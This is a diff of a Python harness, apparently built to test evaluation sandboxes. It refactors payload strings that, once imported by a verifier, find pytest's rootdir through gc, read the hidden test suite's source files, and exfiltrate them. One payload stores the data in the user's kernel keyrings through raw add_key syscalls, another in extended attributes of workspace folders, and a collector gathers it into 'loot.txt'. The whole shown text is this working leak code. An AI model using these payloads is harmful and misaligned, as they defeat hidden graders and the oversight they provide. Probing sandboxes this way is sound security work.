@@ -55,11 +55,7 @@ def py(code: str, timeout: float | None = None) -> dict:
 
 ORACLE = "oracle"
 
-# Imported by the verifier: the suite's files into the user's keyrings and files outside
-# the workspace (see "keyring_exfil").
-_EXFIL = """
-import ctypes as _ct, gc as _gc, os as _os
-
+_READ_SUITE = """
 
 def _exfil():
     root = None
@@ -74,7 +70,18 @@ def _exfil():
         for f in files:
             if f.endswith(".py"):
                 data += open(_os.path.join(d, f), "rb").read()
-    data = data[:30000]
+"""
+"""Opens the payloads' ``_exfil()`` below: the hidden suite the verifier runs, read from
+the files under pytest's rootdir (found through ``gc``), into ``data``."""
+
+# Imported by the verifier: the suite's files into the user's keyrings and files outside
+# the workspace (see "keyring_exfil").
+_EXFIL = (
+    """
+import ctypes as _ct, gc as _gc, os as _os
+"""
+    + _READ_SUITE
+    + """    data = data[:30000]
     nr = {"x86_64": 248, "aarch64": 217}.get(_os.uname().machine)
     try:
         libc = _ct.CDLL(None, use_errno=True)
@@ -92,26 +99,15 @@ def _exfil():
 
 _exfil()
 """
+)
 # Imported by the verifier: the suite's files into extended attributes of the workspace
 # folder and a kept sub-folder (see "xattr_handoff").
-_XATTR = """
+_XATTR = (
+    """
 import gc as _gc, os as _os
-
-
-def _exfil():
-    root = None
-    for o in _gc.get_objects():
-        try:
-            if type(o).__name__ == "Config" and hasattr(o, "rootpath"):
-                root = str(o.rootpath)
-        except Exception:
-            pass
-    data = b""
-    for d, _, files in _os.walk(root or "/nonexistent"):
-        for f in files:
-            if f.endswith(".py"):
-                data += open(_os.path.join(d, f), "rb").read()
-    for i in range(0, min(len(data), 3000), 1000):
+"""
+    + _READ_SUITE
+    + """    for i in range(0, min(len(data), 3000), 1000):
         for where in (".", "keep"):
             try:
                 _os.setxattr(where, "user.rt%d" % i, data[i : i + 1000])
@@ -121,6 +117,7 @@ def _exfil():
 
 _exfil()
 """
+)
 _XATTR_COLLECT = """
 import os
 out = open("loot.txt", "wb")
